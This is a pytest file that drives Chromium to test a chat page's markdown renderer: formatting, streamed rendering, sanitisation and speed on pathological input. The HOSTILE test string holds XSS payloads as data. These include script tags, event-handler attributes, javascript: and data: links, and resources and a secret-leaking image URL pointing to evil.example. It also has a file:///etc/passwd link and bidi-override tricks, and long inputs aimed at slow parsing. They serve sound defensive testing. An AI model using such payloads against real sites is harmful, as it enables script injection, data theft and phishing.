"""Answers as elements, in Chromium: markdown, hostile and long ones among it."""

import json
import re

import pytest
from chat_page import IDLE, ask
from recorded_server import answer

MARKDOWN = {
    "a *b* **c** ***d*** ~~e~~ `f`": "<p>a <em>b</em> <strong>c</strong> <strong><em>d</em></strong> <del>e</del> "
    "<code>f</code></p>",
    "***a** b* ***c* d**": "<p><em><strong>a</strong> b</em> <strong><em>c</em> d</strong></p>",
    "2 * 3 * 4, snake_case_name, a*b*c": "<p>2 * 3 * 4, snake_case_name, a<em>b</em>c</p>",
    "**open *and [not": "<p>**open *and [not</p>",
    "`` a`b `` \\`x\\` `open": "<p><code>a`b</code> `x` `open</p>",
    "# One #\n####### no\n###### six": "<h3>One</h3><p>####### no</p><h6>six</h6>",
    "a\n\n---\n***\n* * *": "<p>a</p><hr><hr><hr>",
    "- a\n  - b\n\n    c\n- d\n* e": "<ul><li><p>a</p><ul><li><p>b</p><p>c</p></li></ul></li><li><p>d</p></li></ul>"
    "<ul><li><p>e</p></li></ul>",
    "3. a\n   ```py\n   x\n   ```\n4. b\n\nc": '<ol start="3"><li><p>a</p>{py:x}</li><li><p>b</p></li></ol><p>c</p>',
    "- [ ] a\n- [x] b": "<ul><li><p>☐ a</p></li><li><p>☑ b</p></li></ul>",
    "> a\n>> b\n> - c\n\nd": "<blockquote><p>a</p><blockquote><p>b</p></blockquote><ul><li><p>c</p></li></ul>"
    "</blockquote><p>d</p>",
    "````md\n```\nin\n```\n````\nout": "{md:```\nin\n```}<p>out</p>",
    "~~~\n\ta  b\n\n": "{code:\ta  b\n\n}",
    "x|y\n-|:-:\n`a\\|b`|<br>|more\nz": "<table><thead><tr><th>x</th><th>y</th></tr></thead><tbody><tr><td><code>a|b"
    "</code></td><td><br></td></tr></tbody></table><p>z</p>",
    "|a|\n-\nb": "<table><thead><tr><th>a</th></tr></thead><tbody></tbody></table><p>b</p>",
    "&lt;b&gt; &amp;amp; &#65;&#x42; &nope; &#0;": "<p>&lt;b&gt; &amp;amp; AB &amp;nope; \ufffd</p>",
    "(see https://a.org/x_y?q=1&r=(2).)": "<p>(see [https://a.org/x_y?q=1&r=(2)>https://a.org/x_y?q=1&amp;r=(2)].)</p>",
    "[t *u*](https://a.org/(b) 'c') <mailto:a@b.c>": "<p>[https://a.org/(b)>t <em>u</em>] [mailto:a@b.c>mailto:a@b.c]"
    "</p>",
}
# Their elements, without what only the style and screen readers need; code and links in short.
IN_SHORT = """
async (texts) => {
  const { Answer } = await import("/page/markdown.js");
  return texts.map((text) => {
    const answer = new Answer();
    answer.show(text, true);
    for (const each of answer.done.querySelectorAll(".code"))
      each.replaceWith(`{${each.querySelector("span").textContent}:${each.querySelector("code").textContent}}`);
    for (const each of answer.done.querySelectorAll("a")) {
      each.before(`[${each.getAttribute("href")}>`);
      each.after("]");
      each.replaceWith(...each.childNodes);
    }
    for (const each of answer.done.querySelectorAll(".scroll")) each.replaceWith(...each.childNodes);
    for (const each of answer.done.querySelectorAll("*"))
      for (const name of each.getAttributeNames())
        if (name !== "start" || each.start === 1) each.removeAttribute(name);
    return answer.done.innerHTML;
  });
}
"""


@pytest.mark.slow
def test_markdown_becomes_elements(page):
    for text, found in zip(MARKDOWN, page.run(f"({IN_SHORT})({json.dumps(list(MARKDOWN))})"), strict=True):
        links = re.sub(r"\[([^\]>]*)&gt;", lambda match: f"[{match[1].replace('&amp;', '&')}>", found)
        assert links == MARKDOWN[text], text


STREAMED = """
(async () => {
  const { Answer } = await import("/page/markdown.js");
  const parts = ["*", "**", "_", "`", "```", "\\n", "\\n\\n", "- ", "  ", "1. ", "2. ", "> ", "|", "a|b", "\\n|-|-|\\n",
    "# ", "word ", "[a](", "http://x.y)", "<", "&lt;", "---", "~~~", "\\t", "***", "\\\\", "    ", "- [x] ", "\\r\\n",
    "é"];
  let state = 5;
  const random = (below) => (state = (state * 48271) % 2147483647) % below;
  const kept = [];
  for (let i = 0; i < 1500; i++) {
    let text = "";
    for (let j = random(25) + 1; j > 0; j--) text += parts[random(parts.length)];
    const [grown, whole] = [new Answer(), new Answer()];
    for (let j = 0; j < text.length; j += 1 + random(4)) {
      const before = [...grown.done.children];
      grown.show(text.slice(0, j), false);
      if (before.some((each, k) => grown.done.children[k] !== each)) return ["made anew", text];
    }
    grown.show(text, true);
    whole.show(text, true);
    if (grown.element.outerHTML !== whole.element.outerHTML) return ["another", text];
    kept.push(whole.element.textContent);
  }
  return kept.length;
})()
"""


@pytest.mark.slow
def test_an_answer_that_grew_looks_as_one_that_came_at_once(page):
    assert page.run(STREAMED) == 1500


HOSTILE = """
<script>window.ran = 1</script></script><img src=x onerror="window.ran = 2"><svg onload="window.ran = 3"><iframe
src="https://evil.example/"></iframe><style>* { display: none }</style><link rel=stylesheet href=//evil.example/a.css>
<base href="https://evil.example/"><form action="https://evil.example/"><meta http-equiv=refresh content="0;url=/x">

# <b onclick=alert(1)>heading</b>

[a](javascript:window.ran=4) [b](JaVaScRiPt:window.ran=5) [c](java\tscript:x) [d](data:text/html,<script>x</script>)
[e](vbscript:x) [f](//evil.example/) [g](/v1/models) [h](#new) [i](https://user@evil.example) <javascript:alert(1)>
[j](&#106;avascript:window.ran=6) [k](\\javascript:x) [l](blob:https://a/b) [m](file:///etc/passwd) ![n](javascript:x)
![picture](https://evil.example/p.png?q=secret) ![](data:image/svg+xml,<svg onload=alert(1)>) [ok](https://ok.example/)
[x" onmouseover="alert(1)](https://ok.example/"onmouseover="alert(1)) https://ok.example/"onclick="x
[https://bank.example](https://evil.example/login) [[in](https://ok.example/1) out](https://ok.example/2)

```html"><script>window.ran = 7</script>
</code></pre><script>window.ran = 8</script> co\u202ede
```js
````
``` ```
| <img src=x onerror=x> | <b>b</b> |
|---|---|
| </td></table><script>x</script> | `<i>` |

1. > - <textarea></title><!-- <plaintext>
&lt;script&gt;window.ran = 9&lt;/script&gt; &#60;img src=x onerror=x&#62;
admin\u202etxt.exe \u2066hidden\u2069 &#x202e;entity `co\u202ede` \x00\x1b[31m
""".replace("hostile", "")
ALLOWED = {"a", "blockquote", "br", "button", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
           "pre", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}  # fmt: skip
ATTRIBUTES = {"aria-label", "aria-live", "class", "dir", "href", "rel", "role", "scope", "start", "tabindex", "target",
              "title", "type"}  # fmt: skip
WHAT_IS_THERE = """(() => {
  const all = [...document.querySelector(".words").querySelectorAll("*")];
  return {
    tags: [...new Set(all.map((each) => each.localName))],
    attributes: [...new Set(all.flatMap((each) => each.getAttributeNames()))],
    links: all.filter((each) => each.localName === "a").map((each) => [each.href, each.rel, each.textContent]),
    text: document.querySelector(".words").textContent,
    ran: String(window.ran),
    elsewhere: document.querySelectorAll("script, img, svg, iframe, style, base, object, embed").length,
    title: document.title,
  };
})()"""


@pytest.mark.slow
def test_nothing_of_a_hostile_answer_runs_or_is_loaded(page, server):
    server.answers = [answer(HOSTILE, 400)]
    ask(page, "<img src=x onerror='window.ran = 10'>\u202e")
    page.wait(IDLE)
    found = page.run(WHAT_IS_THERE)
    assert set(found["tags"]) <= ALLOWED
    assert set(found["attributes"]) <= ATTRIBUTES
    assert (found["ran"], found["elsewhere"], found["title"]) == ("undefined", 1, "phi3_jax")  # the page's own script
    assert {href for href, _, _ in found["links"]} == {
        "https://evil.example/p.png?q=secret", "https://ok.example/", "https://ok.example/%22onmouseover=%22alert(1)",
        "https://evil.example/login", "https://ok.example/1", "https://ok.example/2", "https://evil.example/",
    }  # fmt: skip
    assert {rel for _, rel, _ in found["links"]} == {"noopener noreferrer"}
    assert [text for href, _, text in found["links"] if href.endswith("login")] == ["https://evil.example/login"]
    assert not re.search("[\u202a-\u202e\u2066-\u2069\0\x1b]", page.run("document.body.textContent"))
    for shown in (
        "<script>window.ran = 1</script>",
        "javascript:window.ran=4",
        "<script>window.ran = 8",
        "[U+202E]txt",
    ):
        assert shown in found["text"]
    assert page.run("document.querySelector('.said').textContent").endswith("onerror='window.ran = 10'>[U+202E]")


LONG = """
(async () => {
  const { Answer } = await import("/page/markdown.js");
  const found = {};
  for (const part of PARTS) {
    const text = part.repeat(Math.ceil(100000 / part.length));
    const started = performance.now();
    const answer = new Answer();
    answer.show(text, true);
    const seconds = (performance.now() - started) / 1000;
    let depth = 0;
    const walker = document.createTreeWalker(answer.element, NodeFilter.SHOW_ELEMENT);
    for (let node = answer.element; node; node = walker.nextNode()) {
      let height = 0;
      for (let up = node; up; up = up.parentElement) if (++height > 100) break;
      depth = Math.max(depth, height);
    }
    found[part] = [seconds, depth];
  }
  return found;
})()
"""
PARTS = [
    "*", "*a ", "**a **", "*_", "_a", "[", "![", "[a](", '[a](b "c', "[[a](http://b)", "`", "`a", "> ", "- ", "> - ",
    "- + * ", "#", "<", "<http://", "http://a*", "&#", "\\", "|", "|a\n|-\n", "```\n", "  - a\n", "- \n", "> \n\n",
    "1. ", "~~a",
]  # fmt: skip


@pytest.mark.slow
def test_long_hostile_answers_take_time_in_proportion_and_make_no_deep_tree(page):
    inside = "*a " * 20000 + "b* " * 20000
    rising = "".join("`" * i + "a" for i in range(1, 450))
    stairs = "".join("  " * i + "- a\n" for i in range(310))
    cases = [
        *PARTS,
        "~" * 100_000 + "`",
        "[a](" + " " * 100_000,
        inside,
        rising,
        stairs,
        "`" * 50000 + "\n" + "a\n" * 25000,
        " " * 50000 + "- a\n" + "a\n" * 25000,
    ]
    found = page.run(LONG.replace("PARTS", json.dumps(cases)))
    assert len(found) == len(cases)
    for part, (seconds, depth) in found.items():
        assert seconds < 10, part[:20]  # at most 0.8 s where nothing else runs; where it is quadratic, minutes
        assert depth < 60, part[:20]
